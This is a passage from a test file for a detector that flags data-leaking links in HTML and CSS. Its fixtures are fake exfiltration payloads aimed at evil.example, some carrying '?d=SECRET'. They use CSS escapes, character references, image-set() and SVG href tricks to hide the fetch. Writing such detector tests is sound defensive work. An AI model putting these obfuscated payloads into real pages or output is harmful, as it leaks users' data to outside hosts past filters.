    '<table background="bg.png"><td style="color:red">x</td></table>',
    '@imports "https://evil.example/x.css"',
  ]) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
});

test('exfil links: CSS escapes in the names url, @import and image-set, as browsers resolve them', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  // CSS Syntax 3: '\' and 1-6 hex digits and one optional whitespace, or '\' and any other character
  // (itself); names are ASCII case-insensitive. Each of these is url(, @import or image-set( to a
  // browser. The finding is the token as written, escapes included.
  const found: [string, string, number][] = [
    ['<div style="background:u\\72l(https://evil.example/x?d=SECRET)">', 'u\\72l(https://evil.example/x?d=SECRET)', 0.95],
    ['<style>body{background:\\75 rl(https://evil.example/x)}</style>', '\\75 rl(https://evil.example/x)', 0.9],
    [`<p style="background:U\\52L('https://evil.example/x')">`, `U\\52L('https://evil.example/x')`, 0.9],
    ['<p style="background:\\000075\\000072\\00006C(//evil.example/x)">', '\\000075\\000072\\00006C(//evil.example/x)', 0.9],
    ['<style>a{background:ur\\6c (https://evil.example/x)}</style>', 'ur\\6c (https://evil.example/x)', 0.9], // the space ends the escape
    ['<style>a{background:ur\\6c\r\n(https://evil.example/x)}</style>', 'ur\\6c\r\n(https://evil.example/x)', 0.9], // CR LF is one whitespace
    ['<style>a{background:\\u\\r\\L(https://evil.example/x)}</style>', '\\u\\r\\L(https://evil.example/x)', 0.9], // not hex digits: themselves
    ['<style>a{background:u\\72\nl(https://evil.example/x)}</style>', 'u\\72\nl(https://evil.example/x)', 0.9], // a line break ends the escape too
    // The escape's backslash written as a character reference in a style attribute: decoded first.
    ['<div style="background:u&#92;72l(https://evil.example/x)">', 'u&#92;72l(https://evil.example/x)', 0.9],
    ['<div style="background:u&bsol;72l(https://evil.example/x)">', 'u&bsol;72l(https://evil.example/x)', 0.9],
    ['<div style="background:&#92;75 rl(https://evil.example/x)">', '&#92;75 rl(https://evil.example/x)', 0.9],
    ['<style>@\\69mport "https://evil.example/x.css";</style>', '@\\69mport "https://evil.example/x.css"', 0.9],
    ["<style>@IM\\50 ORT 'https://evil.example/x.css?d=1';</style>", "@IM\\50 ORT 'https://evil.example/x.css?d=1'", 0.95],
    ['<style>@im\\70ort url(https://evil.example/x.css);</style>', 'url(https://evil.example/x.css)', 0.9],
    ['<style>@\\69mport u\\72l(https://evil.example/x.css);</style>', 'u\\72l(https://evil.example/x.css)', 0.9],
    ['<style>@\\69 mport "https://evil.example/x.css";</style>', '@\\69 mport "https://evil.example/x.css"', 0.9],
  ];
  assertFound(d, found);
  // Allowed hosts stay allowed whatever the name is written with; near misses are not CSS fetches.
  for (const ok of [
    '<div style="background:u\\72l(https://docs.example.com/a.png?x=1)">',
    '<div style="background:u\\72l(https://docs\\2e example.com/a.png)">',
    '<style>@\\69mport "https://cdn.trusted.org/a.css";</style>',
    '<div style="background:u&#92;72l(https&#58;//api.trusted.org/a.png)">',
    '<div style="background:u\\72l(data:image/png;base64,AAAA)">',
    '<div style="background:\\75 rl(img/a.png?x=1)">',
    '<div style="background:u\\73l(https://evil.example/x)">', // \73 is 's': usl(
    '<div style="background:u\\72l (https://evil.example/x)">', // a space after the name: not a function
    '<div style="background:a\\75rl(https://evil.example/x)">', // the identifier is "aurl"
    '<div style="background:\\75\\72\\6c\\28 https://evil.example/x)">', // an escaped '(' is part of the name
    '<div style="background:u\\\nrl(https://evil.example/x)">', // '\' and a line break is no escape: the name ends
    '<style>@\\69mports "https://evil.example/x.css";</style>',
    '<style>@\\6amport "https://evil.example/x.css";</style>', // \6a is 'j'
    'To hide a CSS function name, write u\\72l(…) or @\\69mport; browsers read the escapes.',
  ]) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
});

test('exfil links: the plain strings of image-set() and -webkit-image-set() are image URLs', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  // [text, the finding's span, score]. A string argument is a URL to fetch; the finding is the
  // image-set(…) call, as a url("…") finding is the url(…) call (removed, the rest of the style stays).
  const found: [string, string, number][] = [
    [`<p style="background-image: image-set('https://evil.example/a.png?d=1' 1x, 'https://evil.example/b.png' 2x)">`, `image-set('https://evil.example/a.png?d=1' 1x, 'https://evil.example/b.png' 2x)`, 0.95],
    ['<style>.a{background-image:-webkit-image-set("https://evil.example/a.png" 1x)}</style>', '-webkit-image-set("https://evil.example/a.png" 1x)', 0.9],
    ['<style>.a{background-image:IMAGE-SET("//evil.example/a.png" 2DPPX)}</style>', 'IMAGE-SET("//evil.example/a.png" 2DPPX)', 0.9],
    ['<p style="background-image:image-set(&quot;https://evil.example/a.png&quot; 1x)">', 'image-set(&quot;https://evil.example/a.png&quot; 1x)', 0.9],
    // Allowed and relative strings beside a bad one: the call is still the finding.
    ['<style>.a{background:image-set("https://docs.example.com/a.png" 1x, "b.png" 2x, "https://evil.example/c.png" 3x)}</style>', 'image-set("https://docs.example.com/a.png" 1x, "b.png" 2x, "https://evil.example/c.png" 3x)', 0.9],
    // The name written with escapes or character references.
    ['<style>.a{background:image-\\73 et("https://evil.example/a.png" 1x)}</style>', 'image-\\73 et("https://evil.example/a.png" 1x)', 0.9],
    ['<style>.a{background:\\69mage-set("https://evil.example/a.png" 1x)}</style>', '\\69mage-set("https://evil.example/a.png" 1x)', 0.9],
    ['<style>.a{background:-WEBKIT-\\49 MAGE-SET("https://evil.example/a.png" 1x)}</style>', '-WEBKIT-\\49 MAGE-SET("https://evil.example/a.png" 1x)', 0.9],
    ["<p style=\"background:image&#45;set('https://evil.example/a.png' 1x)\">", "image&#45;set('https://evil.example/a.png' 1x)", 0.9],
    ["<p style=\"background:image-&#92;73 et('https://evil.example/a.png' 1x)\">", "image-&#92;73 et('https://evil.example/a.png' 1x)", 0.9],
    // A url() inside is part of the call; type("…") is a MIME type, not a URL; comments, escaped
    // parentheses and nested functions do not hide a string.
    ['<style>.a{background:image-set(url("https://evil.example/a.png") 1x, "https://evil.example/b.png" 2x)}</style>', 'image-set(url("https://evil.example/a.png") 1x, "https://evil.example/b.png" 2x)', 0.9],
    ['<style>.a{background:image-set("https://evil.example/a.avif" type("image/avif"))}</style>', 'image-set("https://evil.example/a.avif" type("image/avif"))', 0.9],
    ['<style>.a{background:image-set(/* ( */ linear-gradient(red, blue) 1x, \\( "https://evil.example/a.png" 2x)}</style>', 'image-set(/* ( */ linear-gradient(red, blue) 1x, \\( "https://evil.example/a.png" 2x)', 0.9],
    // Unclosed: CSS closes the function at the end of the attribute and fetches. The finding runs to
    // the last bad string (what follows is not read as CSS by a browser).
    [`<div style="background-image:image-set('https://evil.example/a.png' 1x">text</div>`, `image-set('https://evil.example/a.png'`, 0.9],
    ['<style>.a{background:image-set("https://evil.example/a.png" 1x</style>', 'image-set("https://evil.example/a.png"', 0.9],
  ];
  assertFound(d, found);
  // A url() alone inside image-set() is a url() finding, as before.
  const u = '<style>.a{background:image-set(url(https://evil.example/a.png) 1x, "b.png" 2x)}</style>';
  assert.deepEqual(d.scan(u, ctx).map((x) => u.slice(x.start, x.end)), ['url(https://evil.example/a.png)']);
  assert.equal(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('<style>a{b:image-set("https://evil.example/a.png" 1x)}</style>', ctx).length, 1);
  for (const ok of [
    '<style>.a{background:image-set("https://docs.example.com/a.png" 1x, \'https://cdn.trusted.org/b.png\' 2x)}</style>',
    '<style>.a{background:image-set("https://docs\\2e example.com/a.png" 1x)}</style>',
    '<style>.a{background:image-set("img/a.png" 1x, "b.png" 2x, "data:image/png;base64,AAAA" 3x)}</style>',
    '<style>.a{background:image-set("a.avif" type("https://evil.example/not-a-url-here"))}</style>',
    'Browsers support image-set() and -webkit-image-set(); the strings "https://evil.example/x" and "a" are not in it.',
    'Use image-set(). Then "https://evil.example/x" is prose.',
    'The function myimage-set("https://evil.example/x" 1x) is not image-set().',
    'The image-set ("https://evil.example/x" 1x) with a space is not a function.',
    'image-set( is written like this: "https://evil.example/x" 1x)', // a colon: not CSS, nothing is fetched
    '<style>.a{background:image-set(url(https://docs.example.com/a.png) 1x)}</style>',
  ]) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
});

test('exfil links: SVG use, image and feImage fetch what href or xlink:href names, a fragment stays local', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com'] });
  assertFound(d, [
    ['<svg><use href="https://evil.example/sprite.svg#icon"/></svg>', '<use href="https://evil.example/sprite.svg#icon"/>', 0.95],
    ['<svg><use xlink:href="//evil.example/sprite.svg"></use></svg>', '<use xlink:href="//evil.example/sprite.svg">', 0.9],
    ["<svg><USE X='0' HREF='https://evil.example/s.svg'/></svg>", "<USE X='0' HREF='https://evil.example/s.svg'/>", 0.9],
    ['<svg><use href="https&#58;//evil.example/s.svg"/></svg>', '<use href="https&#58;//evil.example/s.svg"/>', 0.9],
    ['<svg><image xlink:href="https://evil.example/x.png"/></svg>', '<image xlink:href="https://evil.example/x.png"/>', 0.9],
    ['<svg><filter><feImage xlink:href="https://evil.example/x.png"/></filter></svg>', '<feImage xlink:href="https://evil.example/x.png"/>', 0.9],
  ]);
  for (const ok of [
    '<svg><use href="#icon"/></svg>',
    '<svg><use xlink:href="#icon-close"></use></svg>',
    '<svg><use href="https://docs.example.com/sprite.svg#icon"/></svg>',
    '<svg><use href="sprite.svg#icon"/></svg>',
    '<svg><image href="#pic"/><feImage href="#blur"/></svg>',
    '<user href="https://evil.example/x">not an SVG element</user>',
  ]) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
});
